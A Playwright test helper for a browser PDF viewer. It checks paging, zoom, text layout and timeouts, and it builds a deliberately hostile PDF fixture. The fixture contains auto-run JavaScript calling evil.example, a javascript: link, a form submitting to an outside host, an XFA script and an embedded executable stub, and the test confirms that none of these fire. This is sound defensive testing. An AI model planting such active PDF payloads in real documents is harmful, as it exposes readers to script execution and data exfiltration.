import type { Locator, Page } from '@playwright/test';
import { buildPdf, pageObjects, streamOf } from '@rivermark/testkit/pdf';
import { faultsOf } from './faults-of.ts';
import { expect } from './fixtures.ts';
import { sizeAt } from './paths.ts';

/** Three pages, each of one color, each saying its number. */
export function threePages(): Buffer {
  const colors = ['1 0 0', '0 1 0', '0 0 1'];
  const page = (content: number) =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${content} 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>',
    ...[6, 7, 8].map(page),
    ...colors.map((color, i) =>
      streamOf('', `${color} rg 0 0 612 792 re f 1 g BT /F1 40 Tf 60 600 Td (Statement ${i + 1}) Tj ET`),
    ),
  ]);
}

/** What would act if anything ran it: on opening, on a page, as a link over all of the page. */
export function hostile(): Buffer {
  const script =
    "<< /S /JavaScript /JS (app.alert\\('ran'\\); app.launchURL\\('http://evil.example/js'\\);) >>";
  const uri = '<< /S /URI /URI (http://evil.example/uri) >>';
  const objects = pageObjects(
    `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [6 0 R] /XFA 7 0 R >>`,
  );
  objects[2] = String(objects[2]).replace('/Contents', `/AA << /O ${uri} >> /Annots [5 0 R 6 0 R] /Contents`);
  return buildPdf([
    ...objects,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ada) /Rect [50 50 200 80] /AA << /F ${script} >> /A << /S /SubmitForm /F (http://evil.example/form) >> >>`,
    streamOf(
      '',
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>',
    ),
    streamOf('/Type /EmbeddedFile', 'MZ'),
  ]);
}

async function view(page: Page, link: string, label: string) {
  await page.goto(link);
  await page.getByRole('link', { name: `View ${label}` }).click();
  return page.locator('#viewer');
}

/** The color in the middle of the page that is drawn. */
const middle = (viewer: Locator) =>
  viewer.locator('canvas').evaluate((canvas: HTMLCanvasElement) => {
    const point = canvas.getContext('2d')?.getImageData(canvas.width >> 1, canvas.height >> 1, 1, 1).data;
    return [...(point ?? [])].slice(0, 3).join(' ');
  });

/** The three pages are shown at the first, and axe finds nothing. */
export async function expectPdf(page: Page, link: string, width: number): Promise<Locator> {
  const viewer = await view(page, link, 'Credit Report');
  const room = viewer.getByRole('region', { name: 'Page 1 of 3' });
  await expect(room).toBeVisible();
  await expect(page.getByText('PDF, 3 pages')).toBeVisible();
  await expect(room.getByText('Statement 1')).toBeAttached();
  expect(await middle(viewer)).toBe('255 0 0');
  expect(await faultsOf(page)).toEqual([]);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
  return viewer;
}

/**
 * The agent reads the open PDF page by page, by keys and by name, larger and smaller. A hostile one
 * causes nothing, and one that takes too long is not waited for.
 */
export async function readPdfs(page: Page, link: string, viewer: Locator): Promise<void> {
  await page.setViewportSize(sizeAt(1280));

  await viewer.getByRole('button', { name: 'Next page' }).press('Enter');
  await expect(viewer.getByRole('region', { name: 'Page 2 of 3' }).getByText('Statement 2')).toBeAttached();
  expect(await middle(viewer)).toBe('0 255 0');
  await expect(viewer.getByRole('status').filter({ hasText: 'Page' })).toHaveText('Page 2 of 3');
  await viewer.getByRole('region').press('ArrowRight');
  await expect(viewer.getByRole('region', { name: 'Page 3 of 3' })).toBeVisible();
  expect(await middle(viewer)).toBe('0 0 255');
  await expect(viewer.getByRole('button', { name: 'Next page' })).toHaveAttribute('aria-disabled', 'true');
  const field = viewer.getByRole('textbox');
  await field.fill('1');
  await field.press('Enter');
  await expect(viewer.getByRole('region', { name: 'Page 1 of 3' })).toBeVisible();

  const width = () => viewer.locator('canvas').evaluate((canvas) => canvas.getBoundingClientRect().width);
  const fitting = await width();
  await viewer.getByRole('button', { name: 'Larger' }).click();
  await expect.poll(width).toBeCloseTo(fitting * 1.25, 0);
  await expect(viewer.getByText('125%')).toBeVisible();
  await viewer.getByRole('button', { name: 'Fit the width' }).click();
  await expect.poll(width).toBeCloseTo(fitting, 0);

  const words = viewer.getByText('Statement 1');
  await words.dblclick();
  expect(await page.evaluate(() => String(getSelection()))).toMatch(/Statement|1/);
  // The text lies where it is drawn, so that what is marked is what is seen.
  const [text, canvas] = [await words.boundingBox(), await viewer.locator('canvas').boundingBox()];
  expect(((text?.x ?? 0) - (canvas?.x ?? 0)) / (canvas?.width ?? 1)).toBeCloseTo(60 / 612, 2);

  await page.goto(link);
  await expect(page.getByText('This file carries a program').first()).toBeVisible();
  const acted: string[] = [];
  const windows = page.context().pages().length;
  page.on('dialog', (dialog) => {
    acted.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('download', (download) => acted.push(`download ${download.url()}`));
  page.on('popup', (popup) => acted.push(`window ${popup.url()}`));
  page.on('request', (request) => {
    const { origin, pathname } = new URL(request.url());
    const isOurs = origin === new URL(link).origin;
    if (!isOurs || !/^\/(agent\/|assets\/|pdfjs\/|favicon\.svg$)/.test(pathname))
      acted.push(`request ${request.url()}`);
  });
  await page.getByRole('link', { name: 'View Proof of Income' }).click();
  const only = viewer.getByRole('region', { name: 'Page 1 of 1' });
  await expect(only.getByText('Statement')).toBeAttached();
  await only.click();
  await only.click({ position: { x: 60, y: 60 } });
  await viewer.getByRole('button', { name: 'Larger' }).click();
  await expect(viewer.getByText('125%')).toBeVisible();
  expect(acted).toEqual([]);
  expect(page.context().pages()).toHaveLength(windows);

  await page.clock.install();
  await page.route('**/content', () => {});
  await view(page, link, 'Credit Report');
  await expect(viewer).toContainText('The document is being opened');
  await page.clock.fastForward(21_000);
  await expect(viewer.getByRole('alert')).toContainText('This document takes too long to show here.');
  await expect(viewer.getByRole('link', { name: 'Download it' })).toHaveAttribute('href', /\/download$/);
  await page.unroute('**/content');
}
